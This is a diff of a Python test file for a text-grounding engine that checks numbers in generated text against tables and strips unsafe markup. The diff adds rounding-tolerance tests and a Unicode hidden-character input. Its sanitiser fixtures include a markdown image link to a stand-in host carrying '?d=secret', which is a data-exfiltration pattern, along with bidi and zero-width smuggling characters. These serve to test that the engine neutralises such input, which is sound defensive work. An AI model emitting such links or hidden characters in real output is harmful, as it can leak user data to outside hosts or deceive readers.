@@ -1,5 +1,6 @@
 """Texts that tell the truth stay as they are; and grounding piece by piece is grounding of the whole."""
 
+from decimal import Decimal
 from typing import Any
 
 import pytest
@@ -7,6 +8,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from ..app.engines.grounding import GroundingStream, ground, retell
+from ..app.engines.grounding.cells import Shown
 from .grounding_tables import TABLES
 
 HONEST = [
@@ -40,6 +42,7 @@ HONEST = [
     "From January to March 2024 orders rose to 150.",
     "On January 1, 2024 there were 120 orders.",
     "In 2024 sales were 9,300, after 8,100 in 2023.",
+    "In 2024 and 2023 sales were 9,300 and 8,100.",
     "In Q1 2024 sales were 9300.",
     "Sales in the first quarter of 2024 were 9300.",
     "The largest is 12345678901234567890.",
@@ -103,6 +106,7 @@ def test_references_are_filled_in(text: str, answer: str, cell: tuple[str, int, 
         ("![pixel](https://evil.example/p.png?d=secret)", "pixel"),
         ("see https://evil.example/?q=secret, www.evil.example and mailto:a@b.example", "see [link] [link] and [link]"),
         ("[x]({{t1[2].note}})", "x"),
+        ("4\u200b2 \u202eun\u00adits", "42 units"),
         ("&lt;b&gt;bold&lt;/b&gt;", "bold"),
         ("a \x1b[mred\x07 b\r\nc", "a [mred b \nc"),
         ("＜b＞bold＜/b＞", "bold"),
@@ -112,6 +116,24 @@ def test_references_are_filled_in(text: str, answer: str, cell: tuple[str, int, 
 def test_what_is_shown_is_plain_and_leads_nowhere(text: str, answer: str) -> None:
     shown = ground(text, TABLES).answer.replace("[unverified]", "")
     assert shown.split() == answer.split()
+
+
+@pytest.mark.parametrize(
+    ("shown", "step", "cell", "agrees"),
+    [
+        ("3", "1", "3.02", True),
+        ("3", "1", "3.05", False),
+        ("3", "1", "2.98", True),
+        ("42", "1", "42.42", True),
+        ("42", "1", "42.6", False),
+        ("1500000", "100000", "1512345", True),
+        ("0", "1", "0.001", False),
+        ("0", "1", "0", True),
+        ("-5", "1", "5", False),
+    ],
+)
+def test_what_rounding_may_show(shown: str, step: str, cell: str, agrees: bool) -> None:
+    assert Shown(Decimal(shown), Decimal(step)).agrees(Decimal(cell)) is agrees
 
 
 def test_claims_are_told_in_order_with_their_cells() -> None:
@@ -125,6 +147,9 @@ def test_claims_are_told_in_order_with_their_cells() -> None:
 
 def test_what_is_retold_has_no_figures_and_no_cells() -> None:
     text = "{{t1[0].country}} sold {{t1[0].units}} units, forty-two or 42%, in **2024**; see <b>4</b>2."
+    assert (
+        ground("CH sold 42 units in the year, Store 12 fewer.", TABLES).retold == "… sold … units in the year, … fewer."
+    )
     assert ground(text, TABLES).retold == retell(text) == "… sold … units, … or …, in **…**; see …."
 
 
